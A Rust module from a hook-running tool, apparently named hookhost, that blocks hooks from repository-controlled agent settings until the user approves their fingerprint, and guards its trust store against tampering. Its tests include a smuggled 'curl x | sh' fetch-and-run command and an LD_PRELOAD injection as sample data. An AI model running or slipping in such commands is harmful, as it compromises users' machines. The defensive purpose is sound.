//! Repository trust: a command that a project's files name runs only once
//! the user trusted that exact command.
//!
//! `[hooks.import]` reads other agents' settings files, and `install
//! --adopt --scope project` keeps adopted hooks inside the project. A
//! cloned repository writes those files as it likes, and a `git pull`
//! changes them; the daemon reloads within a second. So an imported hook
//! whose file the project controls ([`project_controlled`]) is
//! [`Trust::Untrusted`] until the user approved its fingerprint
//! ([`fingerprint`]: the sha256 of the file, event, matcher and what runs,
//! as Codex trusts hooks by hash), and an untrusted hook never runs: its
//! member fails as a hook that could not start, so its policy answers.
//!
//! Approvals live in the user's [`TrustStore`]
//! (`$XDG_CONFIG_HOME/hookhost/trusted.json`): a file that is not the
//! user's, or that others may write, is ignored (nothing is trusted), since
//! whoever can write it could approve their own commands.

use std::collections::BTreeMap;
use std::io::Write as _;
use std::os::unix::fs::{DirBuilderExt, MetadataExt, OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use super::{CommandConfig, Config, HookSource, SetHook};

/// Whether an imported hook may run.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
#[non_exhaustive]
pub enum Trust {
    /// From a file of the user's own config folders (or not imported at
    /// all): the user's own, run as the agent would.
    #[default]
    Own,
    /// From a file the project controls, and approved by the user with
    /// this fingerprint: runs.
    Trusted(Box<str>),
    /// From a file the project controls, never approved with this
    /// fingerprint (new, or changed since): never runs.
    Untrusted(Box<str>),
}

impl Trust {
    /// The fingerprint, for a hook from a project-controlled file.
    pub fn fingerprint(&self) -> Option<&str> {
        match self {
            Trust::Own => None,
            Trust::Trusted(h) | Trust::Untrusted(h) => Some(h),
        }
    }

    /// Whether it must not run.
    pub fn is_untrusted(&self) -> bool {
        matches!(self, Trust::Untrusted(_))
    }
}

impl HookSource {
    /// Why the hook named `name` must not run, when it is untrusted: the
    /// text its failures carry to the agent and the logs.
    pub fn untrusted(&self, name: &str) -> Option<String> {
        let Trust::Untrusted(hash) = &self.trust else {
            return None;
        };
        Some(format!(
            "hook `{name}` from {} is not trusted: run `hookhost trust` to review it, then \
             `hookhost trust approve {}`",
            self.file.display(),
            short(hash)
        ))
    }
}

/// A hook of a config that comes from a file the project controls.
#[derive(Debug, Clone, Copy)]
#[non_exhaustive]
pub struct ProjectHook<'a> {
    /// Its name in the chain (`import-003-claude-code-PreToolUse`; a
    /// docker-agent group's hook is `GROUP[N]`, numbered from 1).
    pub name: &'a str,
    /// Its index in a docker-agent group, from 1.
    pub index: Option<usize>,
    /// Where it was written, and its trust.
    pub source: &'a HookSource,
    /// What it runs.
    pub hook: &'a CommandConfig,
}

impl Config {
    /// Every imported hook that comes from a file the project controls,
    /// trusted or not, in chain-name order: what `hookhost trust` lists
    /// and `hookhost check` names when untrusted.
    pub fn project_hooks(&self) -> Vec<ProjectHook<'_>> {
        let commands = self.commands.iter().map(|(n, c)| (n, None, c));
        let sets = self.hook_sets.iter().flat_map(|(n, set)| {
            set.entries
                .iter()
                .enumerate()
                .filter_map(move |(i, e)| match &e.hook {
                    SetHook::Command(c) => Some((n, Some(i + 1), &**c)),
                    SetHook::Builtin { .. } => None,
                })
        });
        commands
            .chain(sets)
            .filter_map(|(name, index, hook)| {
                let source = hook.source.as_ref()?;
                source.trust.fingerprint()?;
                Some(ProjectHook {
                    name,
                    index,
                    source,
                    hook,
                })
            })
            .collect()
    }
}

/// The first 12 hex digits of a fingerprint: what `hookhost trust` shows
/// and accepts (any unique prefix of 8 or more).
pub fn short(hash: &str) -> &str {
    hash.get(..12).unwrap_or(hash)
}

/// The folders of the user's own settings, under `$HOME` or named by the
/// user's environment, canonical. `/` and `$HOME` itself never count: a
/// project may live anywhere under them.
fn user_roots() -> Vec<PathBuf> {
    let env = |k: &str| {
        std::env::var_os(k)
            .filter(|v| !v.is_empty())
            .map(PathBuf::from)
    };
    let home = env("HOME").filter(|h| h.is_absolute());
    let folders = [
        ".claude", ".codex", ".gemini", ".cursor", ".copilot", ".qwen", ".factory", ".config",
    ];
    let mut roots: Vec<PathBuf> = folders
        .iter()
        .filter_map(|d| home.as_ref().map(|h| h.join(d)))
        .collect();
    for var in ["XDG_CONFIG_HOME", "CODEX_HOME", "CLAUDE_CONFIG_DIR"] {
        roots.extend(env(var).filter(|p| p.is_absolute()));
    }
    let home = home.and_then(|h| h.canonicalize().ok());
    roots
        .into_iter()
        .filter_map(|r| r.canonicalize().ok())
        .filter(|r| r.parent().is_some() && Some(r) != home.as_ref())
        .collect()
}

/// Whether the project (whoever writes the repository) controls settings
/// file `file`, so that its commands need the user's trust.
///
/// A file is the user's own only when its real path (symlinks resolved) is
/// in one of the user's settings folders: `~/.claude`, `~/.codex`,
/// `~/.gemini`, `~/.cursor`, `~/.copilot`, `~/.config` (and
/// `$XDG_CONFIG_HOME`, `$CODEX_HOME`, `$CLAUDE_CONFIG_DIR`), and no folder
/// between it and that folder is a git clone (`.git`: whoever pushes to
/// that repository writes it). Anything else is the project's: its
/// `.claude/settings.json`, its plugins, the hooks adopted into it, a file
/// elsewhere on the disk, and a file whose path cannot be resolved.
pub fn project_controlled(file: &Path) -> bool {
    let Ok(file) = file.canonicalize() else {
        return true;
    };
    let roots = user_roots();
    !roots.iter().any(|root| {
        file.starts_with(root)
            && !file
                .ancestors()
                .skip(1)
                .take_while(|d| d != root)
                .any(|d| d.join(".git").exists())
    })
}

/// The fingerprint of an imported hook: `sha256` (hex) of a canonical JSON
/// array of its settings file's real path, the event and matcher it is
/// listed under, its dialect, and what runs as hookhost would run it: the
/// shell command or argv, the URL with its headers and the variables they
/// may read, the folder `dir` (resolved), its environment and passed-through
/// variables, and a prompt hook's model and prompt (not its endpoint,
/// which comes from the user's environment). Any change to one of
/// them is a new command, untrusted until approved again.
pub fn fingerprint(source: &HookSource, hook: &CommandConfig, dir: &Path) -> String {
    let file = source
        .file
        .canonicalize()
        .unwrap_or_else(|_| source.file.clone());
    let model = hook.model.as_ref().map(|m| json!([m.model, m.prompt]));
    let canonical = json!([
        "hookhost-trust-v1",
        file.to_string_lossy(),
        source.event,
        source.matcher,
        hook.dialect.as_str(),
        hook.command,
        hook.args,
        hook.url,
        pairs(&hook.headers),
        hook.allowed_env_vars,
        dir.to_string_lossy(),
        pairs(&hook.env),
        hook.inherit_env,
        model,
    ]);
    let digest = Sha256::digest(canonical.to_string().as_bytes());
    digest.iter().map(|b| format!("{b:02x}")).collect()
}

/// A map as a list of `[key, value]`, in key order.
fn pairs(map: &BTreeMap<String, String>) -> Value {
    map.iter().map(|(k, v)| json!([k, v])).collect()
}

/// What the user approved, kept beside the fingerprint so that `hookhost
/// trust` can show it after the file changed or went away.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct TrustedHook {
    /// The settings file it came from.
    pub file: PathBuf,
    /// The event it was listed under, as written.
    pub event: String,
    /// What it runs, in a few words (the command, argv or URL).
    pub command: String,
    /// When it was approved (RFC 3339).
    pub approved: String,
}

impl TrustedHook {
    /// The record of approving `hook` (from `source`) now.
    pub fn new(source: &HookSource, hook: &CommandConfig) -> Self {
        Self {
            file: source.file.clone(),
            event: source.event.clone(),
            command: describe(hook),
            approved: hookhost_protocol::time::rfc3339(std::time::SystemTime::now()),
        }
    }
}

/// What a hook runs, in a few words: the shell command, the argv, the URL
/// or the prompt hook's model.
pub fn describe(hook: &CommandConfig) -> String {
    if let Some(c) = &hook.command {
        return c.clone();
    }
    if let Some(a) = &hook.args {
        return a.join(" ");
    }
    if let Some(u) = &hook.url {
        return format!("POST {u}");
    }
    hook.model
        .as_ref()
        .map_or_else(String::new, |m| format!("prompt hook ({})", m.model))
}

/// Why the trust store cannot be used.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum TrustError {
    /// Reading or writing it failed.
    #[error("{path}: {source}")]
    Io {
        /// The file or folder.
        path: PathBuf,
        /// The error.
        source: std::io::Error,
    },
    /// It (or its folder) belongs to another user.
    #[error("{path} belongs to uid {owner}, not to you (uid {me}); it is ignored")]
    NotOwned {
        /// The file or folder.
        path: PathBuf,
        /// Its owner.
        owner: u32,
        /// This process's user.
        me: u32,
    },
    /// Others may write it (or its folder).
    #[error("{path} can be written by others (mode {mode:o}); it is ignored: chmod go-w it")]
    Writable {
        /// The file or folder.
        path: PathBuf,
        /// Its permission bits.
        mode: u32,
    },
    /// It is not a regular file (a symlink, a folder, a device).
    #[error("{0} is not a regular file; it is ignored")]
    NotAFile(PathBuf),
    /// It is not a trust store.
    #[error("{path}: not a hookhost trust store: {message}")]
    Syntax {
        /// The file.
        path: PathBuf,
        /// What is wrong.
        message: String,
    },
    /// There is no home or config folder to keep it in.
    #[error("neither $XDG_CONFIG_HOME nor $HOME is set: no trust store")]
    NoPlace,
}

/// The largest trust store read: far above any real one.
const MAX_STORE_BYTES: u64 = 4 * 1024 * 1024;

/// The user's approved fingerprints.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TrustStore {
    /// Where it is kept; `None` for a store built in code.
    path: Option<PathBuf>,
    hooks: BTreeMap<String, TrustedHook>,
}

/// The file's layout.
#[derive(Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct Stored {
    version: u32,
    #[serde(default)]
    hooks: BTreeMap<String, TrustedHook>,
}

impl TrustStore {
    /// A store in memory that trusts nothing, kept nowhere; for an
    /// embedder or a test that approves in code.
    pub fn in_memory() -> Self {
        Self::default()
    }

    /// Where the user's store is: `$XDG_CONFIG_HOME/hookhost/trusted.json`,
    /// else `~/.config/hookhost/trusted.json`.
    pub fn default_path() -> Result<PathBuf, TrustError> {
        let env = |k: &str| {
            std::env::var_os(k)
                .filter(|v| !v.is_empty())
                .map(PathBuf::from)
                .filter(|p| p.is_absolute())
        };
        let config = env("XDG_CONFIG_HOME").or_else(|| env("HOME").map(|h| h.join(".config")));
        config
            .map(|c| c.join("hookhost").join("trusted.json"))
            .ok_or(TrustError::NoPlace)
    }

    /// The user's store, or an empty one that trusts nothing (with a
    /// warning) when it cannot be used: what loading a config reads.
    pub fn load_default() -> Self {
        match Self::default_path().and_then(|p| Self::open(&p)) {
            Ok(store) => store,
            Err(e) => {
                tracing::warn!("trust store: {e}; no project hook is trusted");
                Self {
                    path: Self::default_path().ok(),
                    hooks: BTreeMap::new(),
                }
            }
        }
    }

    /// Opens the store at `path`: empty when the file does not exist yet;
    /// an error when it, or its folder, is another user's or writable by
    /// others, or is a symlink or not a store.
    pub fn open(path: &Path) -> Result<Self, TrustError> {
        let io = |source| TrustError::Io {
            path: path.to_path_buf(),
            source,
        };
        if let Some(dir) = path.parent().filter(|d| d.exists()) {
            safe(
                dir,
                &std::fs::metadata(dir).map_err(|source| TrustError::Io {
                    path: dir.to_path_buf(),
                    source,
                })?,
            )?;
        }
        let file = std::fs::OpenOptions::new()
            .read(true)
            .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
            .open(path);
        let file = match file {
            Ok(f) => f,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                return Ok(Self {
                    path: Some(path.to_path_buf()),
                    hooks: BTreeMap::new(),
                });
            }
            Err(e) if e.raw_os_error() == Some(libc::ELOOP) => {
                return Err(TrustError::NotAFile(path.to_path_buf()));
            }
            Err(e) => return Err(io(e)),
        };
        let meta = file.metadata().map_err(io)?;
        if !meta.is_file() {
            return Err(TrustError::NotAFile(path.to_path_buf()));
        }
        safe(path, &meta)?;
        let mut text = String::new();
        std::io::Read::read_to_string(&mut std::io::Read::take(&file, MAX_STORE_BYTES), &mut text)
            .map_err(io)?;
        let syntax = |message: String| TrustError::Syntax {
            path: path.to_path_buf(),
            message,
        };
        let stored: Stored = serde_json::from_str(&text).map_err(|e| syntax(e.to_string()))?;
        if stored.version != 1 {
            return Err(syntax(format!("version {} (expected 1)", stored.version)));
        }
        Ok(Self {
            path: Some(path.to_path_buf()),
            hooks: stored.hooks,
        })
    }

    /// Where it is kept.
    pub fn path(&self) -> Option<&Path> {
        self.path.as_deref()
    }

    /// Whether fingerprint `hash` is approved.
    pub fn is_trusted(&self, hash: &str) -> bool {
        self.hooks.contains_key(hash)
    }

    /// The approved hooks, by fingerprint.
    pub fn hooks(&self) -> &BTreeMap<String, TrustedHook> {
        &self.hooks
    }

    /// Approves `hash`.
    pub fn approve(&mut self, hash: &str, hook: TrustedHook) {
        self.hooks.insert(hash.to_string(), hook);
    }

    /// Takes the approval of `hash` back; what it was, if there was one.
    pub fn revoke(&mut self, hash: &str) -> Option<TrustedHook> {
        self.hooks.remove(hash)
    }

    /// Writes the store where it was opened, atomically: a new file of
    /// mode 0600 (created so, never widened) renamed over the old one, in
    /// a folder created 0700 when missing.
    pub fn save(&self) -> Result<(), TrustError> {
        let path = self.path.as_deref().ok_or(TrustError::NoPlace)?;
        let dir = path.parent().ok_or(TrustError::NoPlace)?;
        let io = |p: &Path| {
            let p = p.to_path_buf();
            move |source| TrustError::Io { path: p, source }
        };
        std::fs::DirBuilder::new()
            .recursive(true)
            .mode(0o700)
            .create(dir)
            .map_err(io(dir))?;
        safe(dir, &std::fs::metadata(dir).map_err(io(dir))?)?;
        let stored = Stored {
            version: 1,
            hooks: self.hooks.clone(),
        };
        let mut text = serde_json::to_string_pretty(&stored).map_err(|e| TrustError::Syntax {
            path: path.to_path_buf(),
            message: e.to_string(),
        })?;
        text.push('\n');
        let tmp = dir.join(format!(".trusted.json.{}.tmp", std::process::id()));
        let _ = std::fs::remove_file(&tmp);
        let written = write_new(&tmp, text.as_bytes()).map_err(io(&tmp));
        let renamed = written.and_then(|()| std::fs::rename(&tmp, path).map_err(io(path)));
        if renamed.is_err() {
            let _ = std::fs::remove_file(&tmp);
        }
        renamed
    }
}

/// Writes `bytes` to a new file of mode 0600 at `path` (never following a
/// symlink, never reusing a file) and syncs it.
fn write_new(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
    let mut file = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .custom_flags(libc::O_NOFOLLOW)
        .open(path)?;
    file.set_permissions(std::fs::Permissions::from_mode(0o600))?;
    file.write_all(bytes)?;
    file.sync_all()
}

/// Refuses a store file or folder that is not this user's, or that group
/// or others may write.
fn safe(path: &Path, meta: &std::fs::Metadata) -> Result<(), TrustError> {
    // SAFETY: geteuid cannot fail.
    let me = unsafe { libc::geteuid() };
    if meta.uid() != me {
        return Err(TrustError::NotOwned {
            path: path.to_path_buf(),
            owner: meta.uid(),
            me,
        });
    }
    let mode = meta.mode() & 0o7777;
    if mode & 0o022 != 0 {
        return Err(TrustError::Writable {
            path: path.to_path_buf(),
            mode,
        });
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scratch(name: &str) -> PathBuf {
        let dir =
            std::env::temp_dir().join(format!("hookhost-trust-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::DirBuilder::new()
            .recursive(true)
            .mode(0o700)
            .create(&dir)
            .expect("scratch");
        dir
    }

    fn source() -> HookSource {
        HookSource::new("/p/.claude/settings.json".into(), "PreToolUse".into(), None)
    }

    #[test]
    fn a_changed_command_dir_env_or_matcher_is_a_new_fingerprint() {
        let hook = CommandConfig::shell("./guard.sh", &["PreToolUse"]);
        let dir = Path::new("/p");
        let base = fingerprint(&source(), &hook, dir);
        assert_eq!(base.len(), 64);
        assert_eq!(base, fingerprint(&source(), &hook, dir), "stable");
        let other = CommandConfig::shell("./guard.sh; curl x | sh", &["PreToolUse"]);
        assert_ne!(base, fingerprint(&source(), &other, dir));
        assert_ne!(base, fingerprint(&source(), &hook, Path::new("/q")));
        let mut env = hook.clone();
        env.env.insert("LD_PRELOAD".into(), "/p/x.so".into());
        assert_ne!(base, fingerprint(&source(), &env, dir));
        let mut matched = source();
        matched.matcher = Some("Bash".into());
        assert_ne!(base, fingerprint(&matched, &hook, dir));
    }

    #[test]
    fn the_store_round_trips_at_0600() {
        let dir = scratch("round");
        let path = dir.join("hookhost").join("trusted.json");
        let mut store = TrustStore::open(&path).expect("absent is empty");
        assert!(store.hooks().is_empty());
        let hook = CommandConfig::shell("x", &["Stop"]);
        store.approve("ab".repeat(32).as_str(), TrustedHook::new(&source(), &hook));
        store.save().expect("saved");
        let mode = std::fs::metadata(&path).expect("meta").mode() & 0o777;
        assert_eq!(mode, 0o600);
        let dir_mode = std::fs::metadata(path.parent().expect("dir"))
            .expect("meta")
            .mode()
            & 0o777;
        assert_eq!(dir_mode, 0o700);
        let again = TrustStore::open(&path).expect("reopened");
        assert!(again.is_trusted(&"ab".repeat(32)));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn a_store_others_can_write_or_a_symlink_is_refused() {
        let dir = scratch("unsafe");
        let path = dir.join("trusted.json");
        std::fs::write(&path, r#"{"version":1,"hooks":{}}"#).expect("write");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).expect("chmod");
        let err = TrustStore::open(&path).expect_err("world-writable");
        assert!(matches!(err, TrustError::Writable { .. }), "{err}");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).expect("chmod");
        assert!(TrustStore::open(&path).is_ok());
        let link = dir.join("link.json");
        std::os::unix::fs::symlink(&path, &link).expect("symlink");
        let err = TrustStore::open(&link).expect_err("symlink");
        assert!(matches!(err, TrustError::NotAFile(_)), "{err}");
        let _ = std::fs::remove_dir_all(&dir);
    }
}
